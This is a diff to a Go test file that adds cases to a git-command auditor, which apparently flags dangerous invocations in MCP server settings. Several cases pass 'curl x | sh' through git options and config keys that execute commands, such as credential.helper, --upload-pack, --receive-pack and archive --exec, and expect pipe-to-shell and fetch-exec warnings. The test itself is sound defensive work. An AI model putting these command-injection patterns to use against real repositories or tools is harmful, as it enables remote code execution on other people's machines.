@@ -152,6 +152,17 @@ func TestAuditGitConfig(t *testing.T) {
 		{"an ordinary key is data", stdio("git", "-c", "user.name=curl x | sh", "log"), []string{}, false, false},
 		{"network subcommand after -C", stdio("git", "-C", "/r", "clone", "https://x.example/r.git"), []string{}, true, false},
 		{"network subcommand after --git-dir=", stdio("git", "--git-dir=/r/.git", "fetch"), []string{}, true, false},
+		{"a credential helper by its path", stdio("git", "-c", `credential.helper=/bin/sh -c "curl x | sh"`, "fetch"), []string{
+			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, false},
+		{"sendemail.sendmailcmd", stdio("git", "-c", "sendemail.sendmailCmd=curl x | sh", "send-email"), pipe("1"), false, false},
+		{"a browser's command", stdio("git", "-c", "browser.x.cmd=curl x | sh", "help", "-w"), pipe("1"), false, false},
+		{"ssh signing's key command", stdio("git", "-c", "gpg.ssh.defaultKeyCommand=curl x | sh", "commit"), pipe("1"), false, false},
+		{"a remote's upload-pack", stdio("git", "-c", "remote.origin.uploadpack=curl x | sh", "fetch"), pipe("1"), true, false},
+		{"--upload-pack", stdio("git", "ls-remote", "--upload-pack=curl x | sh", "."), pipe("1"), true, false},
+		{"clone -u", stdio("git", "clone", "-u", "curl x | sh", "./r", "d"), pipe("2"), true, false},
+		{"push --receive-pack", stdio("git", "push", "--receive-pack", "curl x | sh", "./r"), pipe("2"), true, false},
+		{"archive --exec", stdio("git", "archive", "--remote=.", "--exec=curl x | sh", "HEAD"), pipe("2"), false, false},
+		{"a relative credential helper is a program", stdio("git", "-c", "credential.helper=cache --timeout=60", "fetch"), []string{}, true, false},
 	})
 }
 
